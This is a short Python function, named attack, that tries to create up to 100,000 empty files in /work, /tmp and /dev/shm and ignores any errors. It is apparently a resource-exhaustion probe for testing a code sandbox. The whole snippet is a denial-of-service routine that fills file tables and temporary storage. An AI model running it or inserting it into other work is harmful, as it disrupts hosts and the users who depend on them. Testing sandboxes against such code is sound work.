def attack():
    for folder in ("/work", "/tmp", "/dev/shm"):
        try:
            for number in range(100_000):
                open(f"{folder}/{number}", "w").close()
        except OSError:
            pass
